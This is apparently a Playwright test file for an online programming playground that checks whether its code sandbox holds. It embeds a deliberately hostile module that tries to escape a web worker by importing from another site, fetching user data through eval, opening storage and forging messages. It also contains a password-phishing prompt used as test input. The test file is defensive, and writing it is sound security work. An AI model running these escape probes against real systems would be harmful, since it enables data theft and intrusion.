import { compressToEncodedURIComponent } from "lz-string";
import type { Page } from "playwright-core";
import { academyFixture } from "./fixture";
import { becomes } from "./screens";
import { editorReady, letAutorunCome, parts, programShown } from "./workspace";

/**
 * Source programs have no way to JavaScript's own world. Here one is given: a module from elsewhere is real JavaScript
 * within the language worker, and it tries every way out that the browser has.
 */
const HOSTILE = `export default require => {
  const late = [];
  const attempt = (name, act) => {
    const note = what => late.push(name + ": " + what);
    try {
      Promise.resolve(act()).then(() => note("REACHED"), () => note("refused"));
    } catch (error) {
      note("refused");
    }
  };
  const holders = [];
  for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at)) holders.push(at);
  const names = ["fetch", "XMLHttpRequest", "WebSocket", "WebSocketStream", "EventSource", "WebTransport", "importScripts",
    "indexedDB", "caches", "Worker", "SharedWorker", "BroadcastChannel", "RTCPeerConnection", "MessageChannel",
    "postMessage", "addEventListener", "dispatchEvent", "onmessage", "close", "FontFace", "Notification", "Request",
    "cookieStore", "WebAssembly", "createImageBitmap", "OffscreenCanvas", "FileReaderSync", "location"];
  const found = () => names.filter(name => holders.some(holder => {
    const property = Object.getOwnPropertyDescriptor(holder, name);
    return property !== undefined && (property.get !== undefined || property.value !== undefined);
  })).join();
  const tryAll = origin => {
    attempt("import of another site", () => import("https://example.com/x.js"));
    attempt("import of the own site", () => import(origin + "/v2/.well-known/nothing"));
    attempt("import of data", () => import("data:text/javascript,1"));
    attempt("fetch by an evaluated text", () => (0, eval)("fetch('/v2/user')"));
    attempt("storage by an evaluated text", () => (0, eval)("indexedDB.open('x')"));
    attempt("putting it back", () => { Object.defineProperty(globalThis, "fetch", { value: 1 }); });
    attempt("hearing commands", () => { addEventListener("message", () => 0); });
    attempt("speaking to the page", () => postMessage({ type: "finished", run: 1, outcome: "finished" }));
    return "tried";
  };
  return { found, tryAll, results: () => late.sort().join("\\n") };
};`;

const academy = academyFixture();
let page: Page;

beforeAll(async () => {
  page = await academy.pageOf("student", "/playground");
  await editorReady(page);
});

interface ReceivedMessage {
  readonly type: string;
  readonly lines?: readonly { readonly text: string }[];
}

interface Trial {
  readonly file: string;
  readonly text: string;
  readonly programs: readonly string[];
  /** How many ways out the first program tries, of which the second tells the results. */
  readonly attempts: number;
}

/** Within the page: runs programs one after the other in a language worker of their own; gives their lines. */
function inWorker({ file, text, programs, attempts }: Trial): Promise<string[]> {
  const worker = new Worker(file);
  const library = { chapter: 4, variant: "default", external: "none", symbols: [], globals: [], execTimeMs: 1000 };
  const said: string[] = [];
  let done = 0;
  let before = 0;
  return new Promise((resolve, reject) => {
    worker.onerror = ({ message }) => reject(new Error(message || `The worker ${file} does not start.`));
    const next = () => {
      const run = ++done;
      before = said.length;
      const program = programs[run - 1];
      if (program === undefined) {
        worker.terminate();
        resolve(said);
      } else worker.postMessage({ type: run === 1 ? "run" : "repl", run, library, prepend: "", program });
    };
    worker.onmessage = ({ data }: { data: ReceivedMessage & { run: number } }) => {
      if (data.type === "ready") next();
      if (data.type === "output") said.push(...(data.lines ?? []).map((line) => line.text));
      if (data.type === "wanted") {
        worker.postMessage({ type: "bundles", run: data.run, bundles: [{ name: "cave", text }] });
      }
      if (data.type === "finished") {
        // What was tried ends when it will: its results are asked for again until they are all there.
        const isWhole = done !== 2 || (said.at(-1) ?? "").split("\\n").length === attempts;
        if (isWhole) next();
        else {
          said.length = before;
          worker.postMessage({ type: "repl", run: done, library, prepend: "", program: programs[1] });
        }
      }
    };
  });
}

/** The address of the page's language worker, which starts a moment after the editor is ready. */
async function languageWorker(): Promise<string> {
  const found = () => page.workers().find((worker) => worker.url().includes("/a/worker/language"));
  const worker = found() ?? (await page.waitForEvent("worker", () => found() !== undefined).then(() => found()));
  if (!worker) throw new Error("The page has no language worker.");
  return worker.url();
}

it("lets nothing out of the language worker, nor anything be kept", async () => {
  const file = await languageWorker();
  // What the policy blocks is a request that never gets an answer.
  const answered: string[] = [];
  page.context().on("response", (response) => {
    // The page goes on reading its news meanwhile, with a token that no worker has.
    if (!("authorization" in response.request().headers())) answered.push(response.url());
  });
  const programs = [
    `import { found, tryAll, results } from "cave"; display(found()); tryAll("${academy.origin}");`,
    "display(results());",
    "1 + 1;",
  ];
  const [found, tried, results, , alive] = await page.evaluate(inWorker, {
    file,
    text: HOSTILE,
    programs,
    attempts: 8,
  });
  expect([found, tried]).toEqual(['""', '"tried"']);
  expect(JSON.parse(results ?? "").split("\n")).toEqual([
    "fetch by an evaluated text: refused",
    "hearing commands: refused",
    "import of another site: refused",
    "import of data: refused",
    "import of the own site: refused",
    "putting it back: refused",
    "speaking to the page: refused",
    "storage by an evaluated text: refused",
  ]);
  expect(alive).toBe("2");
  expect(answered.filter((url) => !url.includes("/a/"))).toEqual([]);
});

describe("a link's program", () => {
  const linkTo = (program: string) =>
    `/playground#chap=4&prgrm=${encodeURIComponent(compressToEncodedURIComponent(program))}`;

  /** Opens a link and waits until the editor shows its program of one line, and nothing of the one before. */
  async function follow(program: string): Promise<void> {
    await page.goto(linkTo(program));
    await becomes(() => programShown(page), program);
  }

  const entries = () => parts(page).output.locator(".ws-entry");

  it("does not run by itself, not even with autorun on, nor when the page is opened again", async () => {
    const autorun = page.getByRole("switch", { name: "Autorun" });
    await page.clock.install();
    await autorun.click();
    await follow('display("by itself");');
    await letAutorunCome(page);
    await becomes(() => entries().count(), 0);
    await page.reload();
    await editorReady(page);
    await letAutorunCome(page);
    await becomes(() => entries().count(), 0);
    await parts(page).run.click();
    await parts(page).output.getByText('"by itself"').first().waitFor();
    await autorun.click();
  });

  it.each(["localStorage", "document", "window", "globalThis", "fetch", "indexedDB", "navigator", "Function"])(
    "knows no %s",
    async (name) => {
      await follow(`${name};`);
      await parts(page).run.click();
      await parts(page).output.getByText(`Line 1: Name ${name} not declared.`).waitFor();
    },
  );

  it("asks in a dialog that says who asks", async () => {
    await follow('prompt("Your session has ended. Password:");');
    await parts(page).run.click();
    const dialog = page.getByRole("dialog", { name: "Your program asks" });
    await dialog.getByText("This question comes from the program, not from this site.").waitFor();
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await parts(page).output.getByText("null").first().waitFor();
  });

  it("tells no other host that somebody looks at it, before the person agrees", async () => {
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await follow('import { show, from_url } from "rune"; show(from_url("https://pictures.example/cat.png?who=me"));');
    await parts(page).run.click();
    await page.getByText("This rune uses an image from pictures.example.").waitFor();
    expect(asked.filter((url) => !url.startsWith(academy.origin) && !/^(data|blob):/.test(url))).toEqual([]);
  });

  it("that would fill the memory is refused, and the program before it stays", async () => {
    await follow("// here");
    await page.goto(`/playground#chap=4&prgrm=${compressToEncodedURIComponent("a".repeat(600_000))}`);
    await page.getByText("The program in this link is too long to open.").waitFor();
    await becomes(() => programShown(page), "// here");
  });
});
